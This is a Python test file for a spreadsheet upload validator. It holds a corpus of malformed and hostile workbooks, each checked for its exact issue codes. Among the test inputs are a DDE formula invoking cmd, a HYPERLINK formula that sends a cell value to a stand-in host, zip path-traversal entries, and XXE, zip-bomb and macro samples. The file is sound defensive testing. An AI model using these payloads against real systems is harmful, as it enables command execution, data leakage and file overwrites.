"""The corpus: bad and odd workbooks made from a real template, each with the exact issues it must give.

Every case asserts the full list of (code, sheet, cell), so an issue reported twice or at the
wrong cell fails as surely as one not reported. Sheets: 指标填报 rows 4-8 are T-K01..T-K05 (value
in N, note in O); 任务进展 rows 4-6 are T-1.1, T-1.2, T-2.1 (status G, percent H, narrative I).
"""

from __future__ import annotations

import dataclasses
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from openpyxl import load_workbook

from schemas.sheets import META_SHEET
from templates_xlsx.annotate import RESULT_SHEET, annotate
from tests.conftest import libreoffice_profile, require_tool
from tests.validators import hostile
from tests.validators.sample import EXPECTATION, expect, fill, run
from tests.xlsx_fill import append_row, delete_row, patch_sheet_xml, recode_row
from validators.expectation import IndicatorFacts, TaskFacts
from validators.file_safety import Limits
from validators.pipeline import ValidationResult

IND, TSK, META = "指标填报", "任务进展", META_SHEET.name


@dataclass
class Case:
    id: str
    make: Callable[[bytes], bytes]  # the template's bytes → the upload
    issues: list[tuple[str, str | None, str | None]]  # (code, sheet, cell), in any order
    expectation: object = EXPECTATION
    limits: Limits | None = None
    marks: list = field(default_factory=list)


def rename_sheet(old: str, new: str):
    def edit(book):
        book[old].title = new

    return edit


def remove_sheet(name: str):
    def edit(book):
        book.remove(book[name])

    return edit


def set_meta(key: str, value: str):
    def edit(book):
        ws = book[META]
        for row in ws.iter_rows():
            if row[0].value == key:
                row[1].value = value

    return edit


def error_value_at(ref: str, error: str = "#DIV/0!"):
    """A cell holding an Excel error value with no formula, as a pasted value would."""

    def make(template: bytes) -> bytes:
        data = fill(template)
        pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.S)
        return patch_sheet_xml(
            data, IND, lambda xml: pattern.sub(f'<c r="{ref}" t="e"><v>{error}</v></c>', xml)
        )

    return make


def cell_xml_at(ref: str, body: str, attrs: str = ""):
    """A good fill with the cell `ref` of 指标填报 rewritten as <c r=ref attrs>body</c>: a formula
    with its cached result, as Excel and WPS save it (openpyxl writes none)."""

    def make(template: bytes) -> bytes:
        pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.S)
        cell = f'<c r="{ref}" {attrs}>{body}</c>'
        return patch_sheet_xml(fill(template), IND, lambda xml: pattern.sub(lambda m: cell, xml))

    return make


def f(indicators=None, tasks=None, **kwargs) -> Callable[[bytes], bytes]:
    return lambda template: fill(template, indicators, tasks, **kwargs)


def v(code: str, value, note=None) -> dict:
    return {code: {"value": value, "note": note}}


CASES = [
    # ---- fine, if odd
    Case("good", f(), []),
    Case("not-started-task-needs-no-narrative", f(tasks={"T-2.1": {"narrative": None}}), []),
    Case("negative-value-where-allowed", f(indicators=v("T-K04", -8.5, "基数高")), []),
    Case("value-missing-but-explained", f(indicators=v("T-K03", None, "统计口径调整,暂缺")), []),
    # ---- stage 1: file safety
    Case("empty-file", lambda t: b"", [("file-empty", None, None)]),
    Case("too-large", hostile.too_large, [("file-too-large", None, None)]),
    Case("too-large-by-setting", f(), [("file-too-large", None, None)], limits=Limits(max_upload_mb=0.001)),
    Case("random-bytes", hostile.random_bytes, [("file-not-xlsx", None, None)]),
    Case("truncated-zip", hostile.truncated, [("file-unreadable", None, None)]),
    Case("encrypted", hostile.encrypted, [("file-encrypted", None, None)]),
    Case("macro-enabled", hostile.with_macro, [("file-macro-enabled", None, None)]),
    Case("macro-content-type", hostile.with_macro_content_type_only, [("file-macro-enabled", None, None)]),
    Case(
        "xxe-in-sheet",
        lambda t: hostile.with_doctype(t, hostile.first_sheet_part(t), hostile.XXE),
        [("file-xml-entity", None, None)],
    ),
    Case(
        "billion-laughs-in-workbook",
        lambda t: hostile.with_doctype(t, "xl/workbook.xml", hostile.LAUGHS),
        [("file-xml-entity", None, None)],
    ),
    Case(
        "doctype-in-content-types",
        lambda t: hostile.with_doctype(t, "[Content_Types].xml", "<!DOCTYPE Types>"),
        [("file-xml-entity", None, None)],
    ),
    Case("zip-bomb-ratio", hostile.bomb_by_ratio, [("file-zip-bomb", None, None)]),
    Case("zip-bomb-total", hostile.bomb_by_total, [("file-zip-bomb", None, None)]),
    Case("html-saved-as-xls", hostile.html_as_xls, [("file-not-xlsx", None, None)]),
    Case("csv", hostile.csv_file, [("file-not-xlsx", None, None)]),
    Case("pdf", hostile.pdf_file, [("file-not-xlsx", None, None)]),
    Case("ods", hostile.ods_file, [("file-not-xlsx", None, None)]),
    Case("docx", hostile.docx_file, [("file-not-xlsx", None, None)]),
    Case("empty-zip", hostile.empty_zip, [("file-not-xlsx", None, None)]),
    Case("corrupt-member", hostile.corrupt_member, [("file-unreadable", None, None)]),
    Case(
        "malformed-sheet-xml",
        lambda t: hostile.malformed_sheet_xml(fill(t), IND),
        [("file-unreadable", None, None)],
    ),
    Case("duplicate-entry", hostile.with_duplicate_entry, [("file-zip-duplicate", None, None)]),
    Case(
        "duplicate-entry-by-case", hostile.with_duplicate_entry_by_case, [("file-zip-duplicate", None, None)]
    ),
    Case("entry-parent-path", hostile.with_entry("../../evil.xml"), [("file-zip-path", None, None)]),
    Case("entry-absolute-path", hostile.with_entry("/etc/cron.d/x"), [("file-zip-path", None, None)]),
    Case(
        "entry-backslash", hostile.with_entry("xl\\worksheets\\sheet9.xml"), [("file-zip-path", None, None)]
    ),
    Case("dde-external-link", hostile.with_dde_external_link, [("file-external-link", None, None)]),
    Case(
        "external-link-relationship",
        hostile.with_external_link_relationship_only,
        [("file-external-link", None, None)],
    ),
    Case(
        "unc-hyperlink",
        lambda t: hostile.with_unc_hyperlink(fill(t), IND),
        [("file-external-link", None, None)],
    ),
    Case("embedded-ole-object", hostile.with_ole_object, [("file-embedded-object", None, None)]),
    Case("remote-ole-object", hostile.with_remote_ole_relationship, [("file-embedded-object", None, None)]),
    # ---- sheets beyond their budget: refused before any reader allocates for them
    Case(
        "one-cell-at-XFD1048576",
        lambda t: hostile.with_cells(IND, ["XFD1048576"])(fill(t)),
        [("sheet-too-large", IND, "XFD1048576")],
    ),
    Case(
        "dimension-claims-the-whole-grid",
        lambda t: hostile.with_dimension(fill(t), hostile.first_sheet_part(t), "A1:XFD1048576"),
        [("sheet-too-large", "填报说明", "XFD1048576")],
    ),
    Case(
        "rows-beyond-the-budget",
        lambda t: hostile.with_cells(TSK, [f"I{r}" for r in range(5001, 5011)], "进展")(fill(t)),
        [("sheet-too-large", TSK, "I5001")],
    ),
    Case(
        "note-beyond-the-column-margin",
        lambda t: hostile.with_cells(IND, ["AP4"], "备注")(fill(t)),
        [("sheet-too-large", IND, "AP4")],
    ),
    Case(
        "added-sheet-too-large",
        lambda t: hostile.with_cells("草稿", ["A1", "B6000"])(fill(t)),
        [("sheet-too-large", "草稿", "B6000")],
    ),
    # ---- stage 2: structure
    Case("sheet-deleted", f(edit=remove_sheet(TSK)), [("sheet-missing", TSK, None)]),
    Case("sheet-renamed", f(edit=rename_sheet(TSK, "任务")), [("sheet-missing", TSK, None)]),
    Case(
        "header-renamed",
        f(cells={(IND, "N3"): "数值"}),
        [("header-missing", IND, "N3")],
    ),
    Case("meta-deleted", f(edit=remove_sheet(META)), [("meta-missing", META, None)]),
    Case("meta-signature-blanked", f(edit=set_meta("signature", "")), [("meta-missing", META, None)]),
    Case(
        "meta-unit-edited",
        f(edit=set_meta("unit", "T-OTHER")),
        [("signature-invalid", META, None), ("wrong-unit", META, None)],
    ),
    Case(
        "old-template-version",
        f(edit=set_meta("template_version", "0")),
        [("template-version-unsupported", META, None), ("signature-invalid", META, None)],
    ),
    Case(
        "signed-with-another-secret",
        f(edit=set_meta("signature", "0" * 64)),
        [("signature-invalid", META, None)],
    ),
    Case(
        "another-units-workbook",
        f(),
        [("wrong-unit", META, None)],
        expectation=expect(unit="T-FGW", unit_name="测试市发改委"),
    ),
    Case("another-rounds-workbook", f(), [("wrong-round", META, None)], expectation=expect(round="2025Q4")),
    Case("round-closed", f(), [("round-not-open", META, None)], expectation=expect(round_state="closed")),
    Case("round-unknown", f(), [("round-unknown", META, None)], expectation=expect(round_state=None)),
    Case(
        "unit-unknown",
        f(),
        [("unknown-unit", META, None)],
        expectation=expect(unit_known=False, indicators=None, tasks=None),
    ),
    Case(
        "row-added",
        f(edit=append_row(IND, {"indicator": "T-K99", "value": 5, "note": "自行增加"})),
        [("row-added", IND, "A9")],
    ),
    Case("row-added-without-code", f(cells={(IND, "N9"): 77}), [("row-added", IND, "A9")]),
    Case("indicator-row-deleted", f(edit=delete_row(IND, "T-K03")), [("row-removed", IND, None)]),
    Case("task-row-deleted", f(edit=delete_row(TSK, "T-1.2")), [("row-removed", TSK, None)]),
    Case(
        "row-duplicated",
        f(edit=append_row(IND, {"indicator": "T-K02", "value": 15000, "note": "重复"})),
        [("row-duplicated", IND, "A9")],
    ),
    Case("row-recoded", f(edit=recode_row(IND, "T-K03", "T-K33")), [("row-recoded", IND, "A6")]),
    Case("code-cleared", f(cells={(TSK, "A5"): None}), [("row-recoded", TSK, "A5")]),
    # ---- reading and normalisation (warnings at their cell; errors where nothing sensible was read)
    Case("full-width-digits", f(indicators=v("T-K01", "１０５０")), [("number-full-width", IND, "N4")]),
    Case(
        "thousands-separator", f(indicators=v("T-K02", "15,000")), [("number-thousands-separator", IND, "N5")]
    ),
    Case("percent-string", f(indicators=v("T-K04", "3.5%")), [("number-percent-string", IND, "N7")]),
    Case(
        "task-percent-string", f(tasks={"T-1.1": {"percent": "60%"}}), [("number-percent-string", TSK, "H4")]
    ),
    Case("unit-after-number", f(indicators=v("T-K01", "1050家")), [("number-unit-suffix", IND, "N4")]),
    Case("surrounding-spaces", f(indicators=v("T-K03", " 35 ")), [("text-trimmed", IND, "N6")]),
    Case(
        "dash-means-no-value-explained",
        f(indicators=v("T-K03", "—", "暂无统计")),
        [("value-not-applicable", IND, "N6")],
    ),
    Case(
        "none-marker-unexplained",
        f(indicators=v("T-K03", "无")),
        [("value-not-applicable", IND, "N6"), ("indicator-value-missing", IND, "N6")],
    ),
    Case("text-not-number", f(indicators=v("T-K01", "一千零五十")), [("value-not-number", IND, "N4")]),
    Case("infinite-as-text", f(indicators=v("T-K01", "1e999")), [("value-not-finite", IND, "N4")]),
    Case("nan-as-text", f(indicators=v("T-K02", "NaN")), [("value-not-finite", IND, "N5")]),
    Case("absurd-magnitude", f(indicators=v("T-K01", "1.79e308")), [("value-too-large", IND, "N4")]),
    Case("just-over-the-bound", f(indicators=v("T-K02", -1.5e15)), [("value-too-large", IND, "N5")]),
    Case("percent-too-large", f(tasks={"T-1.1": {"percent": "1e400%"}}), [("value-not-finite", TSK, "H4")]),
    Case(
        "formula-without-cached-value",
        f(indicators=v("T-K01", "=1000+50")),
        [("formula-without-value", IND, "N4")],
    ),
    Case("excel-error-value", error_value_at("N5"), [("excel-error-value", IND, "N5")]),
    Case(
        "formula-with-cached-value",
        cell_xml_at("N4", "<f>1000+50</f><v>1050</v>"),
        [("formula-not-allowed", IND, "N4")],
    ),
    Case(
        "dde-formula-with-cached-value",
        cell_xml_at("O4", "<f>cmd|' /C calc'!A0</f><v>0</v>", 't="str"'),
        [("formula-not-allowed", IND, "O4")],
    ),
    Case(
        "hyperlink-formula",
        cell_xml_at("O5", '<f>HYPERLINK("http://x.example/?v="&amp;N5,"来源")</f><v>来源</v>', 't="str"'),
        [("formula-not-allowed", IND, "O5")],
    ),
    Case(
        "formula-beside-the-table",
        f(cells={(IND, "Q2"): "=SUM(N4:N8)"}),
        [("formula-not-allowed", IND, "Q2")],
    ),
    # ---- stage 3: rows (Pandera)
    Case("percent-over-100", f(tasks={"T-1.1": {"percent": 120}}), [("value-above-max", TSK, "H4")]),
    Case("percent-negative", f(tasks={"T-1.1": {"percent": -5}}), [("value-below-min", TSK, "H4")]),
    Case("status-not-allowed", f(tasks={"T-1.1": {"status": "完成了"}}), [("value-not-allowed", TSK, "G4")]),
    Case("status-missing", f(tasks={"T-1.1": {"status": None}}), [("required-missing", TSK, "G4")]),
    Case("percent-missing", f(tasks={"T-1.1": {"percent": None}}), [("required-missing", TSK, "H4")]),
    Case("narrative-missing", f(tasks={"T-1.1": {"narrative": None}}), [("narrative-required", TSK, "I4")]),
    Case(
        "negative-value-not-allowed",
        f(indicators=v("T-K03", -3)),
        [("value-below-min", IND, "N6"), ("stock-declined", IND, "N6")],
    ),
    Case("milestone-not-0-or-1", f(indicators=v("T-K05", 2)), [("value-not-allowed", IND, "N8")]),
    Case(
        "value-missing-unexplained", f(indicators=v("T-K03", None)), [("indicator-value-missing", IND, "N6")]
    ),
    # ---- stage 4: sets and history (Great Expectations)
    Case("completed-below-100", f(tasks={"T-1.2": {"percent": 80}}), [("completed-not-100", TSK, "H5")]),
    Case("stock-declined", f(indicators=v("T-K01", 990, "市统计局")), [("stock-declined", IND, "N4")]),
    Case("cumulative-declined", f(indicators=v("T-K03", 28)), [("stock-declined", IND, "N6")]),
    Case("ytd-flow-declined", f(indicators=v("T-K02", 8000)), [("ytd-flow-declined", IND, "N5")]),
    Case("implausible-vs-target", f(indicators=v("T-K02", 250000)), [("value-implausible", IND, "N5")]),
    Case("implausible-vs-previous", f(indicators=v("T-K03", 400)), [("value-implausible", IND, "N6")]),
    Case(
        "indicator-assigned-after-download",
        f(),
        [("indicator-missing", IND, None)],
        expectation=expect(indicators=(*EXPECTATION.indicators, IndicatorFacts("T-K06", "stock"))),
    ),
    Case(
        "task-assigned-after-download",
        f(),
        [("task-missing", TSK, None)],
        expectation=expect(tasks=(*EXPECTATION.tasks, TaskFacts("T-3.1"))),
    ),
    Case(
        "indicator-reassigned-after-download",
        f(),
        [("unit-not-owner", IND, "A7")],
        expectation=expect(indicators=tuple(i for i in EXPECTATION.indicators if i.code != "T-K04")),
    ),
    Case(
        "duplicate-without-metadata",
        f(
            edit=[
                remove_sheet(META),
                append_row(TSK, {"task": "T-1.1", "status": "推进中", "percent": 60, "narrative": "重复"}),
            ]
        ),
        [("meta-missing", META, None), ("task-duplicated", TSK, "A7")],
    ),
    Case(
        "many-problems-at-once",
        f(
            indicators=v("T-K01", "１０５０") | v("T-K03", None),
            tasks={"T-1.1": {"percent": 120}, "T-1.2": {"percent": 80}},
        ),
        [
            ("number-full-width", IND, "N4"),
            ("indicator-value-missing", IND, "N6"),
            ("value-above-max", TSK, "H4"),
            ("completed-not-100", TSK, "H5"),
        ],
    ),
]


_CHECKED: dict[tuple[str, int], tuple[bytes, ValidationResult]] = {}


def checked(case: Case, template: bytes) -> tuple[bytes, ValidationResult]:
    """The case's upload and its validation, made once per test process: the two tests of every
    case below read the same result (neither changes it) instead of building and validating twice."""
    key = (case.id, id(template))
    if key not in _CHECKED:
        data = case.make(template)
        _CHECKED[key] = (data, run(data, case.expectation, case.limits))
    return _CHECKED[key]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_corpus_case_gives_exactly_its_issues(case: Case, template):
    _, result = checked(case, template)
    found = sorted(result.report.flatten(["code", "sheet", "cell"]), key=str)
    assert found == sorted([list(i) for i in case.issues], key=str), [
        (i.code, i.cell, i.message) for i in result.report.issues
    ]
    for issue in result.report.issues:
        assert issue.message and issue.hint and "{" not in issue.message


def test_corpus_has_at_least_forty_bad_workbooks():
    assert sum(1 for c in CASES if c.issues) >= 40


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_every_corpus_file_can_be_annotated(case: Case, template):
    data, result = checked(case, template)
    marked = annotate(data if result.upload is not None else None, result.report.issues)
    book = load_workbook(io.BytesIO(marked))
    assert book.sheetnames[0] == RESULT_SHEET
    assert book[RESULT_SHEET].max_row == max(2, len(result.report.issues) + 1)


@pytest.mark.libreoffice
@pytest.mark.slow
def test_legacy_xls_saved_by_libreoffice_is_refused(good, tmp_path):
    import subprocess

    soffice = require_tool("soffice")
    (tmp_path / "book.xlsx").write_bytes(good)
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={libreoffice_profile()}",
            "--headless",
            "--convert-to",
            "xls",
            "--outdir",
            str(tmp_path / "out"),
            str(tmp_path / "book.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    result = run((tmp_path / "out" / "book.xls").read_bytes())
    assert result.report.flatten(["code"]) == [["file-xls-legacy"]]


@pytest.mark.libreoffice
@pytest.mark.slow
def test_good_workbook_saved_by_libreoffice_has_no_issues(good, tmp_path):
    from tests.xlsx_fill import save_with_libreoffice

    saved = save_with_libreoffice(good, tmp_path, require_tool("soffice"))
    assert run(saved).report.issues == []


@pytest.mark.parametrize("seed", range(25))
def test_randomly_damaged_files_give_issues_not_tracebacks(seed, good):
    import random

    rng = random.Random(seed)
    data = bytearray(good)
    for _ in range(rng.randint(1, 20)):
        data[rng.randrange(len(data))] = rng.randrange(256)
    result = run(bytes(data))
    assert "internal-error" not in result.report.codes()


def test_a_refused_file_is_never_parsed(template, monkeypatch):
    import validators.pipeline as pipeline

    def fail(data, **options):
        raise AssertionError("a refused file reached the reader")

    monkeypatch.setattr(pipeline, "read_upload", fail)
    monkeypatch.setattr(pipeline, "_isolated_read", fail)
    result = run(hostile.with_macro(template))
    assert result.upload is None and result.report.codes() == ["file-macro-enabled"]
    assert result.stages_run == ["file"]


def test_structure_errors_do_not_stop_row_checks(template):
    data = fill(template, tasks={"T-1.1": {"percent": 120}}, edit=set_meta("unit", "T-OTHER"))
    codes = run(data).report.codes()
    assert {"signature-invalid", "wrong-unit", "value-above-max"} <= set(codes)


def test_issues_come_in_stage_order(template):
    data = fill(
        template,
        indicators=v("T-K01", "１０５０") | v("T-K02", 8000),
        tasks={"T-1.1": {"percent": 120}},
        edit=set_meta("template_version", "0"),
    )
    stages = [i.code for i in run(data).report.issues]
    assert (
        stages.index("number-full-width")
        < stages.index("signature-invalid")
        < stages.index("value-above-max")
        < stages.index("ytd-flow-declined")
    )


def test_expectation_taken_from_the_workbook_metadata(good):
    seen = {}

    def source(meta):
        seen.update(meta)
        return dataclasses.replace(EXPECTATION, unit=meta["unit"], round=meta["round"])

    from tests.validators.sample import SECRET
    from validators.pipeline import validate_upload

    result = validate_upload(good, source, None, SECRET)
    assert result.report.issues == [] and seen["unit"] == "T-KJJ" and seen["round"] == "2025Q3"


def test_the_corpus_in_one_parallel_batch_gives_every_file_the_issues_it_gives_alone(template, monkeypatch):
    """The parallel batch path checks each file's safety in the worker that reads it
    (validators.checked_read): every hostile or broken file must still get exactly its issues,
    with the same stages run, as when it is validated alone."""
    from templates_xlsx import isolation
    from tests.validators.sample import SECRET
    from validators.pipeline import validate_many

    cases = [c for c in CASES if c.limits is None]
    alone = [checked(c, template) for c in cases]
    monkeypatch.setattr(isolation, "PARALLEL_MIN_FILES", 2)
    tasks = []
    calls_ahead = isolation.calls_ahead

    def spied(task, *args, **kwargs):
        tasks.append(task)
        return calls_ahead(task, *args, **kwargs)

    monkeypatch.setattr(isolation, "calls_ahead", spied)
    batch = validate_many(
        [(data, c.expectation) for c, (data, _) in zip(cases, alone, strict=True)], None, SECRET
    )
    assert tasks == ["checked-upload"] and len(cases) >= 40
    for case, (_, one), together in zip(cases, alone, batch, strict=True):
        found = sorted(together.report.flatten(["code", "sheet", "cell", "message"]), key=str)
        assert found == sorted(one.report.flatten(["code", "sheet", "cell", "message"]), key=str), case.id
        assert together.stages_run == one.stages_run, case.id
